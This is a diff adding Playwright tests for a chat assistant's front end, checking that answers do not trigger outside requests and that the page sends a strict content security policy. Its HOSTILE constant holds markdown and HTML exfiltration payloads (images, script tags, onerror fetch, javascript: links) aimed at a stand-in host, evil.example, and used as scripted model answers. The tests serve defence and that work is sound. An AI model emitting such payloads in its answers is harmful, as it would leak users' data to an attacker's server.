@@ -1,0 +1,74 @@
+import { expect, test } from '@playwright/test';
+import { ChatPage } from '../pages/chat-page.ts';
+import { answerWith } from './scripted-answers.ts';
+
+const HOSTILE = [
+  '![leak](http://evil.example/a.png?q=secret) ',
+  '[![x](http://evil.example/b.png)](http://evil.example/c) ',
+  '![r][ref]\n\n[ref]: http://evil.example/d.png\n\n',
+  '<img src="http://evil.example/e.png" srcset="http://evil.example/f.png 2x" onerror="fetch(`//evil.example/g`)">\n\n',
+  '<link rel="prefetch" href="http://evil.example/h"><style>@import "http://evil.example/i";</style>\n\n',
+  '<video poster="http://evil.example/j"></video><iframe src="http://evil.example/k"></iframe>\n\n',
+  '<script src="http://evil.example/l"></script>\n\n',
+  '[now](javascript:fetch`//evil.example/m`) http://evil.example/n www.evil.example\n\n',
+  '|a|\n|-|\n|![t](http://evil.example/o.png)|\n\n[evil.pdf#page=1](http://evil.example/p)',
+].join('');
+
+/** Every seventh prefix: enough to cut each construct in several places. */
+const PREFIXES = Array.from({ length: Math.ceil(HOSTILE.length / 7) }, (_, at) =>
+  HOSTILE.slice(0, (at + 1) * 7),
+);
+
+test('an answer that means harm makes no request, at whatever point it is cut', async ({ page, baseURL }) => {
+  test.slow();
+  const elsewhere: string[] = [];
+  page.on('request', (request) => {
+    if (new URL(request.url()).origin !== baseURL) elsewhere.push(request.url());
+  });
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await answerWith(page, ...PREFIXES.map((text) => ({ text })));
+  const chat = new ChatPage(page);
+  await chat.open();
+  for (const [at] of PREFIXES.entries()) {
+    await chat.ask(`Question ${at}`);
+    if (at % 10 === 9) await chat.newChat.click();
+  }
+  await page.waitForLoadState('networkidle');
+  expect(elsewhere).toEqual([]);
+  expect(dialogs).toEqual([]);
+  await expect(chat.conversation.getByRole('img')).toHaveCount(0);
+});
+
+test('the page runs no script and loads nothing but its own', async ({ page }) => {
+  const response = await page.goto('/');
+  const policy = response?.headers()['content-security-policy'] ?? '';
+  expect(policy).toContain("default-src 'none'");
+  expect(policy).not.toMatch(/unsafe-(inline|eval)|https?:|\*/);
+  const again = await page.goto('/');
+  expect(again?.headers()['content-security-policy']).not.toBe(policy);
+});
+
+test('a real answer and its document need nothing from elsewhere and break no policy', async ({
+  page,
+  baseURL,
+}) => {
+  const elsewhere: string[] = [];
+  const complaints: string[] = [];
+  page.on('request', (request) => {
+    if (new URL(request.url()).origin !== baseURL) elsewhere.push(request.url());
+  });
+  page.on('console', (message) => {
+    if (message.type() === 'error') complaints.push(message.text());
+  });
+  const chat = new ChatPage(page);
+  await chat.open();
+  await chat.ask('How many days can I work from abroad each year?');
+  await chat.citation(1).first().click();
+  await page.waitForLoadState('networkidle');
+  expect(elsewhere).toEqual([]);
+  expect(complaints).toEqual([]);
+});
